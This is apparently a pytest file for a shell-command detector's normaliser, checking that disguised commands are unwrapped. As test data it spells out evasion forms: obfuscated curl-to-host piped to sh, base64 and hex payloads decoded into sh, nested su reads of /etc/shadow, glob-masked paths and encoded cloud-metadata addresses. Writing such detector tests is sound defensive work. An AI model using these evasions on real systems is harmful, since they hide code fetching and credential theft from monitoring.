"""Normalisation: what the rules see after evasion tricks are undone."""

from __future__ import annotations

import pytest

from ssm_warden.detect.normalize import FULL_PARSE_LIMIT, normalize


def _segments(text: str) -> list[str]:
    return [s.text for s in normalize(text).segments]


@pytest.mark.parametrize(
    "typed",
    [
        "curl http://x.example/a",
        "c'u'rl http://x.example/a",
        'c\\url "http://x.example/a"',
        '"c""url" http://x.example/a',
        "$'\\x63\\x75\\x72\\x6c' http://x.example/a",
        "$'\\143url' http://x.example/a",
        "a=cu;b=rl;$a$b http://x.example/a",
        "/usr/bin/curl http://x.example/a",
        "sudo -u root /usr/bin/env FOO=1 nohup timeout 5 curl http://x.example/a",
        "command curl http://x.example/a",
        "exec curl http://x.example/a",
        "curl${IFS}http://x.example/a",
        "$(echo cu)rl http://x.example/a",
        "{curl,http://x.example/a}",
        "c$@url http://x.example/a",
    ],
)
def test_evasions_of_a_command_name_normalise_to_the_plain_command(typed: str) -> None:
    # Given a command disguised with quoting, escapes, variables, wrappers or paths
    # When it is normalised
    segments = _segments(typed)
    # Then one segment reads as the plain command
    assert "curl http://x.example/a" in segments


def test_payloads_of_shells_eval_and_su_are_normalised_recursively() -> None:
    # Given commands that run other shell text
    text = 'bash -c \'eval "su -c \\"cat /etc/shadow\\" root"\''
    # When normalised
    segments = _segments(text)
    # Then the innermost command is a segment of its own, marked as privileged (su)
    inner = [s for s in normalize(text).segments if s.text == "cat /etc/shadow"]
    assert inner and inner[0].privileged
    assert inner[0].depth >= 2
    assert any(s.startswith("bash -c") for s in segments)


def test_base64_piped_to_a_shell_is_decoded_and_judged() -> None:
    # Given "echo <base64 of 'id; cat /etc/hostname'> | base64 -d | sh"
    text = "echo aWQ7IGNhdCAvZXRjL2hvc3RuYW1l | base64 -d | sh"
    # When normalised
    segments = _segments(text)
    # Then the decoded commands are segments too, and the pipeline is kept whole
    assert "cat /etc/hostname" in segments
    assert "echo aWQ7IGNhdCAvZXRjL2hvc3RuYW1l | base64 -d | sh" in normalize(text).pipelines


def test_hex_piped_through_xxd_is_decoded() -> None:
    # Given a hex-encoded command piped through xxd -r -p into sh
    text = "echo 636174202f6574632f686f73746e616d65 | xxd -r -p | sh"
    # When normalised
    # Then the decoded command is a segment
    assert "cat /etc/hostname" in _segments(text)


def test_lists_pipelines_substitutions_and_backticks_are_split() -> None:
    # Given a line with ; && || | $( ) and backticks
    text = "a && b || c; d | e $(f) `g`"
    # When normalised
    segments = _segments(text)
    # Then every command is a segment and the pipeline keeps both sides
    for name in ("a", "b", "c", "f", "g"):
        assert name in segments
    assert any(p.startswith("d | e") for p in normalize(text).pipelines)


def test_unbalanced_quotes_do_not_crash() -> None:
    # Given text with unbalanced quotes, a dangling backslash and an open substitution
    for text in ["echo 'oops", 'echo "oops', "echo `oops", "echo $(oops", "echo \\", "'", '"', "$"]:
        # When normalised
        result = normalize(text)
        # Then something sensible comes out
        assert result.segments or result.pipelines or text in ("'", '"', "$")


def test_numeric_forms_of_an_address_are_rewritten_to_dotted_quads() -> None:
    # Given the metadata address written as decimal, hex, octal, short form and IPv4-mapped IPv6
    forms = [
        "http://2852039166/latest",
        "http://0xa9fea9fe/latest",
        "http://0251.0376.0251.0376/latest",
        "http://169.254.43518/latest",
        "http://[::ffff:a9fe:a9fe]/latest",
    ]
    for form in forms:
        # When normalised
        # Then the URL uses the dotted quad
        assert _segments(f"curl {form}") == ["curl http://169.254.169.254/latest"]


def test_globs_that_name_a_sensitive_path_resolve_to_it() -> None:
    # Given a glob written to avoid naming /bin/cat and /etc/shadow
    # When normalised
    # Then the segment names them
    assert "cat /etc/shadow" in _segments("/???/c?t /???/s??d?w")


def test_sudo_marks_the_segment_privileged() -> None:
    # Given a command run with sudo and one without
    result = normalize("sudo -n id; id")
    # Then only the first is privileged
    assert [(s.text, s.privileged) for s in result.segments] == [("id", True), ("id", False)]
    assert result.privileged


def test_here_document_bodies_are_judged_as_shell_text() -> None:
    # Given a here-document fed to a shell
    text = "bash <<EOF\ncat /etc/hostname\nEOF"
    # When normalised
    # Then its body is a segment
    assert "cat /etc/hostname" in _segments(text)


def test_very_long_text_uses_the_coarse_path_and_still_sees_the_tail() -> None:
    # Given a line longer than the full-parse limit with a command at its very end
    text = "x" * (FULL_PARSE_LIMIT + 10) + " ; c'u'rl http://x.example/a | sh"
    # When normalised
    result = normalize(text)
    # Then the coarse path was used and the tail is still a dequoted pipeline
    assert result.coarse
    assert "curl http://x.example/a | sh" in result.pipelines


def test_variable_expansion_is_bounded() -> None:
    # Given a variable expanded many thousands of times
    text = "a=" + "x" * 4000 + "; echo " + "$a" * 5000
    # When normalised
    result = normalize(text)
    # Then expansion stopped (the text did not grow by 20 MB) and the result says so
    assert result.truncated
    assert sum(len(s.text) for s in result.segments) < 10 * len(text)
